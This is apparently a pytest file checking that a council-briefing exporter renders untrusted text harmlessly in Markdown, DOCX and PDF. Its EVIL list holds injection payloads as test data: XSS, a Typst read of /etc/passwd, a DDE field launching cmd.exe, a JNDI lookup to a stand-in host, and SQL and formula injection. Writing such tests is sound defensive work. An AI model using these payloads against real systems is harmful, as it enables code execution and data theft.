"""Words of papers and of the model are untrusted: they arrive as plain text in every format and do nothing."""

from __future__ import annotations

import datetime as dt
import io
import re
import zipfile
from functools import cache
from pathlib import Path
from typing import Any

import exported
import full_briefing as sample
import pytest
from exported import FORMATS, text_of, tight
from hypothesis import given, settings
from hypothesis import strategies as st

from ratsassistent.briefings import Briefing
from ratsassistent.output import export, pdf
from ratsassistent.output.blocks import plain

EVIL = [
    '#read("/etc/passwd")',
    '#import "@preview/cetz:0.3.4"; #eval("1+1")',
    "] #panic() [",
    "= Überschrift",
    "== Ober\n= Unter",
    "$ x^2 $ und \\$E = mc^2\\$",
    "*fett* _kursiv_ `code` ~ @verweis <marke>",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "`<b>x</b>`{=html}",
    "{=html} ::: warnung",
    "---\ntitle: falsch\n---",
    "[klick](javascript:alert(1)) ![bild](http://boese.example/x.png)",
    "http://boese.example/ www.boese.example",
    "| a | b |\n|---|---|\n| c | d |",
    '{ HYPERLINK "http://boese.example" } { DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" }',
    "{\\rtf1\\ansi{\\field{\\*\\fldinst HYPERLINK}}}",
    "</w:t></w:r><w:r><w:instrText>DATE</w:instrText></w:r>",
    "]]></w:t> &amp; &lt; &#x41; <![CDATA[x]]>",
    '=HYPERLINK("http://boese.example";"x") @SUM(1)',
    "%PDF-1.7 (x) Tj ET endstream endobj /JavaScript",
    "{{ jinja }} ${jndi:ldap://boese.example} %(a)s",
    "</rdf:RDF><rdf:Description/>",
    '"; DROP TABLE papers; --',
    "1. Liste\n2) Liste\n- Strich\n+ Plus",
]
# What no reader sees, and what XML, Typst or a terminal would choke on
UNSEEN = (
    "a\x00b\x01c\x08d\x0be\x0cf\x1b[31mg\x7fh\x85i\u202ej\u2066k\ufeffl\ufffem\uffffn\ud800o\U0001ffffp\u200bq\r\nr\ts"
)
KEEP = {
    "id", "item_id", "origin", "check", "kind", "purpose", "level", "public", "meeting", "start", "date", "written",
    "part", "vote", "outcome", "target", "file_id", "sha256", "audience",
}  # fmt: skip


def poisoned(evil: str) -> Briefing:
    """The full briefing with this at the end of every text in it."""

    def walk(value: Any, name: str = "") -> Any:
        if isinstance(value, dict):
            return {key: walk(each, key) for key, each in value.items()}
        if isinstance(value, list | tuple):
            return [walk(each, name) for each in value]
        if isinstance(value, str) and name not in KEEP:
            return f"{value} {evil}"
        return value

    return Briefing.model_validate(walk(sample.full(sample.plot()).model_dump()))


@pytest.mark.parametrize("form", FORMATS)
@pytest.mark.parametrize("evil", EVIL)
def test_hostile_words_arrive_as_they_are_and_do_nothing(form: str, evil: str) -> None:
    made = export.render(poisoned(evil), form)
    assert tight(text_of(form, made)).count(tight(evil)) >= 25, "it is shown wherever it was"
    assert shape(form, made) == harmless(form, re.sub(r"[^\n]+", "harmlos", evil))


@cache
def harmless(form: str, words: str) -> Any:
    """What kind of things the same document is made of with harmless words."""
    return shape(form, export.render(poisoned(words), form))


def shape(form: str, made: bytes) -> Any:
    """What kind of things a file is made of, without its words."""
    if form == "md":
        kinds = [t.type for t in exported.tokens(made)]
        assert not {k for k in kinds if k.startswith(("html", "code", "fence", "link", "image", "em", "hr"))}
        return [k for k in kinds if k.endswith("_open") and k != "paragraph_open"], sorted(exported.front_matter(made))
    if form == "docx":
        archive = zipfile.ZipFile(io.BytesIO(made))
        body = exported.document_xml(made)
        fields = [e.text for name in archive.namelist() if name.endswith(".xml")
                  for e in exported.document_xml(made, name).iter(f"{exported.W}instrText")]  # fmt: skip
        assert sorted(fields) == [" NUMPAGES ", " PAGE "]
        links = b"".join(archive.read(name) for name in archive.namelist() if name.endswith(".rels"))
        assert b"External" not in links
        styles = [e.attrib[f"{exported.W}val"] for e in body.iter(f"{exported.W}pStyle")]
        return sorted(archive.namelist()), [s for s in styles if s != "Quote"], len(list(body.iter(f"{exported.W}tbl")))
    reader = exported.pdf(made)
    actions = [a.get_object() for page in reader.pages for a in page.get("/Annots", [])]
    assert all(a["/Subtype"] == "/Link" and "/A" not in a for a in actions)  # they lead to places in the document
    assert not {"/OpenAction", "/AA", "/AcroForm"} & set(reader.trailer["/Root"])
    assert "/Names" not in reader.trailer["/Root"] or "/JavaScript" not in reader.trailer["/Root"]["/Names"]
    assert "root:" not in text_of("pdf", made)
    return [k for k in exported.elements(reader) if k in ("/H1", "/H2", "/Table", "/TH", "/L", "/LI", "/BlockQuote")]


@pytest.mark.parametrize("form", FORMATS)
def test_what_no_reader_sees_is_left_out(form: str) -> None:
    made = export.render(poisoned(UNSEEN), form)
    shown = text_of(form, made)
    assert tight("abcdef[31mghijklmnopqrs") in tight(shown)
    assert not re.search(
        r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f\u202e\u2066\ufeff\ufffe\uffff\u200b]", shown.replace("\x0c", "")
    )
    shape(form, made)


@pytest.mark.parametrize("form", FORMATS)
def test_characters_that_no_font_here_has_do_not_stop_the_export(form: str) -> None:
    made = export.render(poisoned("漢字 😀 עברית \U00013000 Ende"), form)
    shown = tight(text_of(form, made))
    assert "Ende" in shown
    if form != "pdf":  # a PDF shows what this machine has fonts for, and a square for the rest
        assert tight("漢字 😀 עברית \U00013000 Ende") in shown
    else:
        assert "漢" in shown or "□" in shown


def test_a_resolution_that_imitates_the_end_of_the_quote_stays_in_it() -> None:
    item = sample.bridge().model_copy(
        update={"resolution": sample.Wording(text="Ja.\n\n## Nein\n\n> x\n***\nEnde", citation=sample.on(11))}
    )
    made = export.render(sample.full().model_copy(update={"agendaItem": (item,)}), "md")
    inside, depth = [], 0
    for token in exported.tokens(made):
        depth += {"blockquote_open": 1, "blockquote_close": -1}.get(token.type, 0)
        inside += [token.content] if depth and token.type == "text" else []
    assert tight("".join(inside)).startswith(tight("Ja.## Nein> x***Ende"))


def test_the_template_loads_nothing() -> None:
    source = (Path(pdf.__file__).parent / "document.typ").read_text(encoding="utf-8")
    code = "\n".join(line.partition("//")[0] for line in source.splitlines())
    assert not re.search(r"\b(import|include|read|eval|image|plugin|csv|yaml|toml|xml|cbor)\b|@|https?:", code)
    assert code.count("json(") == 1
    assert "json(bytes(sys.inputs.document))" in code


TEXT = st.text(
    st.one_of(st.characters(codec=None), st.sampled_from("#$*_`<>[]{}\\|~=-+&@\"'()§€„“ \n\t\x00\ud800")), max_size=40
)


@settings(max_examples=40, deadline=None)
@given(TEXT)
def test_any_text_is_shown_whole(text: str) -> None:
    item = sample.plot(public=True).model_copy(update={"statements": (sample.said(f"A{text}Z"),), "name": f"B{text}Y"})
    brief = sample.extract_only().model_copy(update={"agendaItem": (item,), "name": f"C{text}X"})
    for form in ("md", "docx"):
        shown = tight(text_of(form, export.render(brief, form)))
        assert tight(plain(f"A{text}Z")) in shown
        assert tight(plain(f"B{text}Y")) in shown


@settings(max_examples=25, deadline=None)
@given(TEXT)
def test_any_text_makes_a_pdf(text: str) -> None:
    item = sample.plot(public=True).model_copy(update={"statements": (sample.said(f"A{text}Z"),), "name": f"B{text}Y"})
    brief = sample.extract_only().model_copy(update={"agendaItem": (item,), "name": f"C{text}X"})
    reader = exported.pdf(export.render(brief, "pdf"))
    known = re.sub(r"[^ -~§€„“]", "", text)  # what the fonts surely have, in the order of reading
    if known == text:
        assert tight(f"A{text}Z") in tight("".join(page.extract_text() for page in reader.pages))


def test_a_moment_with_parts_of_a_second_is_no_problem() -> None:
    item = sample.plot(public=True).model_copy(
        update={"written": dt.datetime(2027, 1, 1, 12, 0, 0, 999_999, tzinfo=dt.timezone(dt.timedelta(hours=1)))}
    )
    given_ = sample.extract_only().model_copy(update={"agendaItem": (item,)})
    assert exported.pdf(export.render(given_, "pdf")).metadata
